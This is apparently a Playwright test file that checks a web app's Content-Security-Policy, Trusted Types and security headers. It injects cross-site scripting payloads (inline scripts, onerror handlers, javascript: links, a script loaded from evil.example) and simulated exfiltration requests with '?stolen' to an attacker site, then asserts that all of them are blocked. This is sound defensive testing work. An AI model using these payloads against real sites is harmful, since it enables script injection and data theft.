// The Content-Security-Policy blocks injected scripts. That the app itself does not violate it is checked by every test.
import { startAttackerSite } from "../support/attacker-site.ts";
import { expect, test } from "../support/test.ts";

test.use({ allowed: { violations: true, scriptErrors: /TrustedHTML|TrustedScript|Trusted Type/ } });

test("Chromium blocks inline scripts, event handlers and javascript: URLs injected into the page", async ({
  page,
  context,
  record,
}) => {
  await context.route("**/profile", async (route) => {
    const response = await route.fetch();
    const injected = `<script>window.injected = "inline"</script><img src="/none" onerror="window.injected = 'handler'">
      <a href="javascript:window.injected='address'">Click me</a></body>`;
    await route.fulfill({ response, body: (await response.text()).replace("</body>", injected) });
  });
  await page.goto("/profile");
  // The app itself still renders.
  await expect(page.getByRole("heading", { level: 1, name: "Profile" })).toBeVisible();
  await page.getByRole("link", { name: "Click me" }).click();
  await expect
    .poll(() => record.violations.filter(({ blocked }) => blocked === "inline").length)
    .toBeGreaterThanOrEqual(3);
  expect(await page.evaluate(() => (window as unknown as { injected?: string }).injected)).toBeUndefined();
});

test("Chromium blocks conversions of text to markup or code by Trusted Types", async ({ page }) => {
  await page.goto("/");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  const outcomes = await page.evaluate(async () => {
    // In a later task of the page: code evaluated by the test itself is exempt from the policy.
    await new Promise((resolve) => setTimeout(resolve));
    const attempts: [string, () => void][] = [
      ["innerHTML", () => void (document.body.innerHTML = "<img src=x onerror=alert(1)>")],
      ["document.write", () => document.write("<script>alert(1)</script>")],
      ["script text", () => void (document.createElement("script").text = "alert(1)")],
      ["script address", () => void (document.createElement("script").src = "https://evil.example/x.js")],
      ["eval", () => void (Reflect.get(globalThis, "eval") as (code: string) => unknown)("1")],
      [
        "a Trusted Types policy",
        () =>
          void (
            window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
          ).trustedTypes.createPolicy("x", { createHTML: (text: string) => text }),
      ],
    ];
    return attempts.map(([name, attempt]) => {
      try {
        attempt();
        return [name, "allowed"];
      } catch {
        return [name, "blocked"];
      }
    });
  });
  expect(outcomes.filter(([, outcome]) => outcome !== "blocked")).toEqual([]);
});

test("Chromium blocks requests of the page to other origins", async ({ loggedInPage, user, record }) => {
  const attacker = await startAttackerSite();
  await loggedInPage.goto("/profile");
  await expect(loggedInPage.getByRole("banner")).toContainText(user.name);
  for (const target of [attacker.crossSite, attacker.sameSite]) {
    const outcome = await loggedInPage.evaluate(async (url) => {
      const image = new Promise((resolve) => {
        const node = new Image();
        node.onload = () => resolve("loaded");
        node.onerror = () => resolve("blocked");
        node.src = `${url}/image?stolen`;
      });
      const request = fetch(`${url}/fetch?stolen`, { mode: "no-cors" }).then(
        () => "sent",
        () => "blocked",
      );
      navigator.sendBeacon(`${url}/beacon?stolen`);
      return [await image, await request];
    }, target);
    expect(outcome).toEqual(["blocked", "blocked"]);
  }
  await expect
    .poll(() => new Set(record.violations.map(({ directive }) => directive)))
    .toEqual(new Set(["img-src", "connect-src"]));
  expect(attacker.received).toEqual([]);
  await attacker.stop();
});

test("every document, file and error of the gateway has a Content-Security-Policy", async ({ request, system }) => {
  for (const { path, status, policy } of [
    { path: "/", status: 200, policy: /script-src 'self'.*frame-ancestors 'none'.*require-trusted-types-for 'script'/ },
    { path: "/profile", status: 200, policy: /script-src 'self'.*frame-ancestors 'none'/ },
    { path: "/favicon.svg", status: 200, policy: /default-src 'none'/ },
    { path: "/no-such-file.js", status: 404, policy: /default-src 'none'/ },
    { path: "/bff/user", status: 403, policy: /default-src 'none'; frame-ancestors 'none'; sandbox/ },
    { path: "/bff/nothing", status: 403, policy: /default-src 'none'; frame-ancestors 'none'; sandbox/ },
    { path: "/bff/callback", status: 400, policy: /default-src 'none'.*frame-ancestors 'none'/ },
    { path: "/api/protected", status: 403, policy: /default-src 'none'/ },
  ]) {
    const response = await request.get(system.origin + path);
    const headers = response.headers();
    expect([path, response.status()]).toEqual([path, status]);
    expect(headers["content-security-policy"], path).toMatch(policy);
    expect(headers["content-security-policy"], path).not.toMatch(/unsafe-inline|unsafe-eval|\*|data:/);
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["x-frame-options"], path).toBe("DENY");
    expect(headers["access-control-allow-origin"], path).toBeUndefined();
  }
});
